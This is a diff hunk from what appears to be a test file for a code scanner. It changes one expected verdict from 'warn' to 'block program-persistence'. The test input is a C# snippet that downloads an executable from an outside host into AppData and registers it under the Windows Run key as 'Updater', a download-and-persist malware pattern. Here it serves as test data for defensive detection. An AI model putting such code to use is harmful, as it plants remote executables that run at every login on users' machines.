@@ -187,7 +187,7 @@ test.each([
   [
     "a.cs",
     'class Run {\n  static void Main() {\n  var exe = System.IO.Path.Combine(System.Environment.GetFolderPath(System.Environment.SpecialFolder.ApplicationData), "svc.exe");\n  new System.Net.WebClient().DownloadFile("https://cdn.pkg-tools.biz/svc.exe", exe);\n  using var key = Registry.CurrentUser.OpenSubKey(@"Software\\Microsoft\\Windows\\CurrentVersion\\Run", true);\n  key.SetValue("Updater", exe);\n  }\n}\n',
-    "warn program-persistence",
+    "block program-persistence",
   ],
   [
     "a.cs",
